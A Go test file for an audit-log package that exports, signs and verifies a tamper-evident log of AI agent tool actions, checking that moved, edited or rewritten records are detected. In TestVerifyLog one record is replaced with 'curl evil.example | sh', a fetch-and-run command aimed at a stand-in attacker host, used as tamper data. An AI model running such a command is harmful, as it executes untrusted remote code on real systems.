package auditlog

import (
	"bytes"
	"context"
	"errors"
	"fmt"
	"strings"
	"testing"
	"time"

	"github.com/nats-io/nats.go/jetstream"

	"github.com/vigil-dev/vigil/client/transport"
	"github.com/vigil-dev/vigil/events"
	"github.com/vigil-dev/vigil/processors/audit"
)

// eventLog is a testLog whose records are real events (msgpack), on
// conversations c-1 and c-2 alternately, with VIGIL_DERIVED taking risk
// assessments too, as the export reads them.
func eventLog(t *testing.T, n int) *testLog {
	t.Helper()
	l := newTestLog(t)
	ctx := t.Context()
	if _, err := l.js.UpdateStream(ctx, jetstream.StreamConfig{Name: events.StreamDerived,
		Subjects: []string{"vigil.audit.>", "vigil.gate.>", "vigil.risk.>"}}); err != nil {
		t.Fatal(err)
	}
	l.appendEvents(n)
	return l
}

// appendEvents publishes n more action events.
func (l *testLog) appendEvents(n int) {
	l.t.Helper()
	for range n {
		l.n++
		conv := fmt.Sprintf("c-%d", l.n%2+1)
		ev := events.Event{V: 1, ID: fmt.Sprintf("act-%06d", l.n), Kind: events.KindAction, Conversation: conv, Agent: "coder-1",
			Time: time.Date(2026, 11, 22, 10, 0, 0, 0, time.UTC).Add(time.Duration(l.n) * time.Second),
			Data: map[string]any{"tool": "bash", "args": map[string]any{"command": fmt.Sprintf("ls /srv/%d", l.n)}}}
		b, err := ev.MarshalMsgpack()
		if err != nil {
			l.t.Fatal(err)
		}
		if _, err := l.js.Publish(context.Background(), events.LogSubject(conv), b); err != nil {
			l.t.Fatal(err)
		}
	}
}

// signLog signs the tree of the log's first size records as stored now
// (an honest checkpoint) and publishes it.
func (l *testLog) signLog(size uint64) {
	l.t.Helper()
	tree, err := LogTree(context.Background(), l.js, size, nil, nil, nil)
	if err != nil {
		l.t.Fatal(err)
	}
	if err := PadTree(tree, size); err != nil {
		l.t.Fatal(err)
	}
	l.publish(tree, size)
}

// rewrite replaces VIGIL_LOG by the same records, with the one at seq
// given another body (an operator with admin credentials).
func (l *testLog) rewrite(seq uint64, body []byte) {
	l.t.Helper()
	ctx := context.Background()
	var subjects []string
	var bodies [][]byte
	if err := readLog(ctx, l.js, nil, "", 1, l.n, nil, func(r transport.RawRecord) error {
		subjects, bodies = append(subjects, r.Subject), append(bodies, r.Data)
		return nil
	}); err != nil {
		l.t.Fatal(err)
	}
	if err := l.js.DeleteStream(ctx, events.StreamLog); err != nil {
		l.t.Fatal(err)
	}
	l.createLog()
	bodies[seq-1] = body
	for i := range bodies {
		if _, err := l.js.Publish(ctx, subjects[i], bodies[i]); err != nil {
			l.t.Fatal(err)
		}
	}
}

// countingProgress counts what it is told.
type countingProgress struct{ shown, done int }

func (p *countingProgress) Show(string, uint64, uint64) { p.shown++ }
func (p *countingProgress) Done()                       { p.done++ }

// TestExportVerifiesOffline: an export of the whole log, and of one
// conversation from a sequence on, verify offline with the key; the risk
// assessment VIGIL_DERIVED holds is joined to its record; records after
// the checkpoint have no proof; a moved or edited line is named.
func TestExportVerifiesOffline(t *testing.T) {
	ctx := t.Context()
	l := eventLog(t, 10)
	l.signLog(8)
	d := events.Derived{V: 1, ID: "risk:3", Kind: events.KindRiskAssessed, Seq: 3,
		Data: events.RiskAssessed{ActionID: "act-000003", LogSeq: 3, Level: events.RiskHigh}}
	b, err := d.Marshal()
	if err != nil {
		t.Fatal(err)
	}
	if _, err := l.js.Publish(ctx, events.RiskSubject("c-2"), b); err != nil {
		t.Fatal(err)
	}

	var buf bytes.Buffer
	p := &countingProgress{}
	res, err := Export(ctx, l.js, &buf, ExportConfig{Verifiers: l.vs, VerifierKey: "", Progress: p})
	if err != nil {
		t.Fatal(err)
	}
	if res.Records != 10 || res.First != 1 || res.Last != 10 || !res.Signed || res.Checkpoint.Size != 8 || res.LogEnd != 10 ||
		res.Report == nil || !res.Report.Clean() {
		t.Fatalf("result %+v, report %+v", res, res.Report)
	}
	if p.shown != 20 || p.done != 2 {
		t.Errorf("progress shown %d times, done %d; want 20 (hashing and writing) and 2", p.shown, p.done)
	}
	lines := bytes.Split(bytes.TrimSpace(buf.Bytes()), []byte("\n"))
	if len(lines) != 12 {
		t.Fatalf("%d lines, want header + 10 + checkpoint", len(lines))
	}
	l3, err := audit.DecodeExportLine(lines[3])
	if err != nil || l3.Event == nil || l3.Event.Seq != 3 || !bytes.Contains(l3.Event.Risk, []byte(`"HIGH"`)) || len(l3.Event.Proof) == 0 {
		t.Fatalf("line of seq 3: %v %+v", err, l3.Event)
	}
	if l10, _ := audit.DecodeExportLine(lines[10]); l10.Event == nil || len(l10.Event.Proof) != 0 {
		t.Fatalf("seq 10 is after the checkpoint, yet has a proof: %+v", l10.Event)
	}
	rep, err := VerifyExport(ctx, bytes.NewReader(buf.Bytes()), ExportVerifyConfig{Verifiers: l.vs, Name: "test"})
	if err != nil || !rep.Clean() || !rep.Complete || rep.SignedSize != 8 || rep.Events != 10 {
		t.Fatalf("verify: %v %+v", err, rep)
	}

	cases := []struct {
		name string
		edit func([][]byte)
		want string
	}{
		{"lines swapped", func(ls [][]byte) { ls[4], ls[5] = ls[5], ls[4] }, "seq 4: moved"},
		{"line edited", func(ls [][]byte) { ls[7] = bytes.Replace(ls[7], []byte("/srv/7"), []byte("/srv/X"), 1) }, "seq 7: altered"},
	}
	for _, tc := range cases {
		t.Run(tc.name, func(t *testing.T) {
			ls := make([][]byte, len(lines))
			copy(ls, lines)
			tc.edit(ls)
			rep, err := VerifyExport(ctx, bytes.NewReader(bytes.Join(ls, []byte("\n"))), ExportVerifyConfig{Verifiers: l.vs})
			if err != nil {
				t.Fatal(err)
			}
			if !strings.Contains(fmt.Sprint(rep.Findings), tc.want) {
				t.Fatalf("findings %v lack %q", rep.Findings, tc.want)
			}
		})
	}

	// One conversation from seq 4: a partial export, still verifiable.
	buf.Reset()
	res, err = Export(ctx, l.js, &buf, ExportConfig{Conversation: "c-1", From: 4, Verifiers: l.vs})
	if err != nil || res.Records != 4 || res.First != 4 || res.Last != 10 {
		t.Fatalf("conversation export: %v %+v", err, res)
	}
	rep, err = VerifyExport(ctx, &buf, ExportVerifyConfig{Verifiers: l.vs})
	if err != nil || !rep.Clean() || rep.Complete || rep.Conversation != "c-1" {
		t.Fatalf("verify conversation export: %v %+v", err, rep)
	}
	if _, err := Export(ctx, l.js, &buf, ExportConfig{Conversation: "c 2"}); !errors.Is(err, ErrBadConversation) {
		t.Fatalf("bad conversation: %v", err)
	}
}

// TestExportTampered: a record rewritten after it was signed is still
// exported, and the report names the signed window it is in (these
// checkpoints list no leaf hashes, so the window is as precise as it gets); without keys nothing is verified
// and the checkpoint is included unverified.
func TestExportTampered(t *testing.T) {
	ctx := t.Context()
	l := eventLog(t, 6)
	l.signLog(6)
	l.rewrite(2, []byte("not the signed record"))
	var buf bytes.Buffer
	res, err := Export(ctx, l.js, &buf, ExportConfig{Verifiers: l.vs})
	if err != nil {
		t.Fatal(err)
	}
	if res.Records != 6 || res.Report == nil || !strings.Contains(fmt.Sprint(res.Report.Findings), "seqs 1..6: mismatch") {
		t.Fatalf("result %+v, findings %v", res, res.Report)
	}
	res, err = Export(ctx, l.js, &buf, ExportConfig{})
	if err != nil || res.Report != nil || !res.Signed || res.Checkpoint.Size != 6 {
		t.Fatalf("without keys: %v %+v", err, res)
	}
}

// TestVerifyLog: a clean log reports nothing; a rewritten record is named
// by the signed window it is in; a witness that does not verify is refused before any
// read; a witness file's note is found in an export.
func TestVerifyLog(t *testing.T) {
	ctx := t.Context()
	l := eventLog(t, 10)
	l.signLog(4)
	l.signLog(8)
	p := &countingProgress{}
	rep, err := VerifyLog(ctx, l.js, VerifyConfig{Verifiers: l.vs, Interval: 4, Progress: p})
	if err != nil || !rep.Clean() || rep.Records != 10 || rep.SignedSize != 8 || rep.Unsigned != 2 || rep.ValidCheckpoints != 2 {
		t.Fatalf("clean log: %v %+v", err, rep)
	}
	if p.shown != 10 || p.done != 1 {
		t.Errorf("progress shown %d, done %d", p.shown, p.done)
	}
	// An export's checkpoint line is a witness.
	var buf bytes.Buffer
	if _, err := Export(ctx, l.js, &buf, ExportConfig{Verifiers: l.vs}); err != nil {
		t.Fatal(err)
	}
	note, err := WitnessNote(buf.Bytes())
	if err != nil || !strings.Contains(note, "vigil-test") {
		t.Fatalf("witness from an export: %v %q", err, note)
	}
	if n, err := WitnessNote([]byte(note)); err != nil || n != note {
		t.Fatalf("witness from a note: %v", err)
	}
	if _, err := WitnessNote([]byte(`{"header":{}}`)); !errors.Is(err, ErrNoWitness) {
		t.Fatalf("JSON without a checkpoint: %v", err)
	}
	if _, err := NewLogCheck(VerifyConfig{Verifiers: l.vs, Witnesses: []Witness{{Name: "w.txt", Note: "forged"}}}); err == nil || !strings.HasPrefix(err.Error(), "w.txt: ") {
		t.Fatalf("bad witness: %v", err)
	}
	if _, err := NewLogCheck(VerifyConfig{}); !errors.Is(err, audit.ErrNoKey) {
		t.Fatalf("no key: %v", err)
	}

	l.rewrite(6, []byte("curl evil.example | sh"))
	check, err := NewLogCheck(VerifyConfig{Verifiers: l.vs, Witnesses: []Witness{{Name: "w", Note: note}}})
	if err != nil {
		t.Fatal(err)
	}
	rep, err = check.Run(ctx, l.js)
	if err != nil || rep.Clean() || !strings.Contains(fmt.Sprint(rep.Findings), "seqs 5..8: mismatch") || rep.Witnesses != 1 {
		t.Fatalf("rewritten log: %v %+v", err, rep.Report)
	}
	if _, err := check.Run(ctx, l.js); err == nil {
		t.Fatal("a LogCheck ran twice")
	}
}

// fakeAppender appends to VIGIL_LOG directly and signs the log after the
// seal, as the audit processor would (sign false stands for a node
// without one).
type fakeAppender struct {
	l    *testLog
	sign bool
}

func (a fakeAppender) Append(ctx context.Context, ev events.Event) (events.IngestResult, error) {
	b, err := ev.MarshalMsgpack()
	if err != nil {
		return events.IngestResult{}, err
	}
	ack, err := a.l.js.Publish(ctx, events.LogSubject(""), b)
	if err != nil {
		return events.IngestResult{}, err
	}
	a.l.n++
	if a.sign {
		a.l.signLog(ack.Sequence)
	}
	return events.IngestResult{Seq: ack.Sequence}, nil
}

func TestSeal(t *testing.T) {
	ctx := t.Context()
	l := eventLog(t, 3)
	if err := Seal(ctx, l.js, fakeAppender{l: l, sign: true}, "alice", "test", 10*time.Second); err != nil {
		t.Fatal(err)
	}
	cp, err := Latest(ctx, l.js, l.vs, 4)
	if err != nil || cp.Size != 4 {
		t.Fatalf("the seal (seq 4) is not covered: %v %+v", err, cp)
	}
	err = Seal(ctx, l.js, fakeAppender{l: l}, "alice", "test", 200*time.Millisecond)
	if err == nil || !strings.Contains(err.Error(), "no checkpoint covering the seal (log seq 5) within 200ms") {
		t.Fatalf("no audit processor: %v", err)
	}
}

// TestProverProgress: a Prover tells its progress of every record it
// reads into blocks (the CLI shows it), up to the checkpoint's blocks.
func TestProverProgress(t *testing.T) {
	l := eventLog(t, 40)
	l.signLog(40)
	p := NewProver(l.js, l.vs, 3)
	var n, last, end uint64
	p.SetProgress(func(seq, to uint64) { n, last, end = n+1, seq, to })
	if _, err := p.Prove(t.Context(), 5); err != nil {
		t.Fatal(err)
	}
	if n != 40 || last != 40 || end != 40 {
		t.Fatalf("told %d records, last %d of %d; want 40, 40 of 40", n, last, end)
	}
}

// FuzzWitnessNote: whatever a witness file holds, WitnessNote does not
// panic, and a note it finds in JSON is a checkpoint line's.
func FuzzWitnessNote(f *testing.F) {
	f.Add([]byte("vigil-test\n4\nabc=\n\n— vigil-test xyz\n"))
	f.Add([]byte(`{"header":{"format":"vigil-audit-export/1"}}` + "\n" + `{"checkpoint":{"tree_size":4,"root_hash":"x","note":"n"}}`))
	f.Add([]byte("  {\n\n{"))
	f.Fuzz(func(t *testing.T, b []byte) {
		n, err := WitnessNote(b)
		if err != nil && !errors.Is(err, ErrNoWitness) {
			t.Fatalf("error %v is not ErrNoWitness", err)
		}
		if err == nil && !bytes.HasPrefix(bytes.TrimSpace(b), []byte("{")) && n != string(b) {
			t.Fatalf("a note file was not returned as is")
		}
	})
}
